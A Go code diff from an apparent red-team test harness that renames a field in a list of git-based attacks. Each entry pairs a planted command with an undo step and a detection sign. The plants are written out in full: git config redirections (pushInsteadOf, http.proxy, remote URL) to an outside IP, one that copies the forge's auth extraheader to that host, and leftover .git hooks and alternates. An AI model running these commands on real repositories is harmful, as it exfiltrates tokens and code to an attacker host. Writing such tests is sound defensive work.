@@ -75,7 +75,7 @@ func gitAttacks() []Attack {
 		if seen == nil {
 			seen = []sign{trapped}
 		}
-		all = append(all, Attack{ID: "git-" + id, In: "git", Wall: wallOwnGit + "; " + wallRestore, Tries: tries, Plant: plant, Undo: undo, Seen: seen})
+		all = append(all, Attack{ID: "git-" + id, In: "git", Defense: defenseOwnGit + "; " + defenseRestore, Tries: tries, Plant: plant, Undo: undo, Seen: seen})
 	}
 	unset := func(names ...string) string {
 		return "for n in " + strings.Join(names, " ") + "; do git config --unset-all $n; done; true"
@@ -105,7 +105,7 @@ func gitAttacks() []Attack {
 	add("push-instead-of", "url.….pushInsteadOf, to bring the pack elsewhere", "git config url.http://45.66.77.80:8082/.pushInsteadOf http://forge.redteam.test/", unset("url.http://45.66.77.80:8082/.pushInsteadOf"), anythingAt("tcp 45.66.77.80:8082"))
 	add("proxy", "http.proxy, through which the token goes", "git config http.proxy http://45.66.77.80:8080", unset("http.proxy"), leftTo("tcp 45.66.77.80:8080"))
 	add("remote", "another address for origin", "git config remote.origin.url http://45.66.77.80:8083/x; git config http.http://45.66.77.80:8083/.extraheader \"$(git config http.http://forge.redteam.test/.extraheader)\"", "git config remote.origin.url http://forge.redteam.test/octo/$RT_RUN; "+unset("http.http://45.66.77.80:8083/.extraheader"), leftTo("tcp 45.66.77.80:8083"))
-	all = append(all, Attack{ID: "git-left", In: "git", Wall: wallRestore, Tries: "leave any of that in .git for later steps", Plant: "git config redteam.left yes; mkdir -p .git/info .git/objects/info; echo '* -text' >.git/info/attributes; echo /tmp >.git/objects/info/alternates; echo x >.git/hooks/pre-commit", Undo: "rm -f .git/objects/info/alternates", Seen: []sign{gitLeft}})
+	all = append(all, Attack{ID: "git-left", In: "git", Defense: defenseRestore, Tries: "leave any of that in .git for later steps", Plant: "git config redteam.left yes; mkdir -p .git/info .git/objects/info; echo '* -text' >.git/info/attributes; echo /tmp >.git/objects/info/alternates; echo x >.git/hooks/pre-commit", Undo: "rm -f .git/objects/info/alternates", Seen: []sign{gitLeft}})
 	return all
 }
 
